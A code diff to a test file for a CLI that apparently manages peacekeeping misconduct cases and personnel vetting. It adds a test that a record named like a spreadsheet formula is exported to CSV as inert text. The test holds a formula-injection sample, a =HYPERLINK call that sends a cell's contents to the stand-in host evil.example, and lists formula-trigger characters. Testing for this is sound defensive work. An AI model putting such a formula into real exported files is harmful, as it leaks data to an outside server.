@@ -34,7 +34,7 @@ def test_init_is_idempotent(cli_env):
 
 
 def test_case_commands_and_audit(cli_env):
-    r = run("users", "create", "liaison", "--role", "tcc_liaison", "--tcc", "770", "--password", "liaison-pass")
+    r = run("users", "create", "liaison", "--role", "tcc_liaison", "--tcc", "770", "--password", "liaison-amber-harbour")
     assert r.exit_code == 0, r.output
     liaison = json.loads(r.output)["token"]
     r = run("cases", "create", "--mission", "MINUSTAH", "--tcc", "770", "--category", "sexual_exploitation",
@@ -87,3 +87,24 @@ def test_vetting_compliance_training_intake(cli_env):
     receipt = r.output.split("receipt: ")[1].strip()
     assert len(receipt) == 20
     assert json.loads(run("intake", "read", receipt).output)["messages"][0]["text"] == "I saw something"
+
+
+def test_hits_csv_never_carries_a_formula(cli_env):
+    """The issue's example: a record named like a formula lands in hits.csv as inert text."""
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Ahmed Karimov")'
+    (cli_env / "records.csv").write_text("full_name,date_of_birth,nationality,category\n"
+                                         f'"{evil.replace(chr(34), chr(34) * 2)}",1980-01-02,700,sexual_abuse\n',
+                                         encoding="utf-8")
+    # The roster is uploaded text too: here it carries the same formula.
+    (cli_env / "roster.csv").write_text("name,date_of_birth,nationality\n"
+                                        f'"{evil.replace(chr(34), chr(34) * 2)}",1980-01-02,700\n', encoding="utf-8")
+    assert "imported 1 records" in run("vetting", "import-records", "records.csv").output
+    r = run("vetting", "screen", "roster.csv", "--out", "hits.csv", "--threshold", "0.5")
+    assert r.exit_code == 0 and "1 hits" in r.output, r.output
+    import csv
+    with open(cli_env / "hits.csv", newline="", encoding="utf-8") as fh:
+        rows = list(csv.DictReader(fh))
+    cells = [v for row in rows for v in row.values()]
+    assert cells.count("'" + evil) == 2  # record name and roster name, both inert
+    assert not any(v[:1] in "=+@\t\r" for v in cells if v)
+    assert not any(v.startswith("-") and not v.lstrip("-").replace(".", "").isdigit() for v in cells if v)
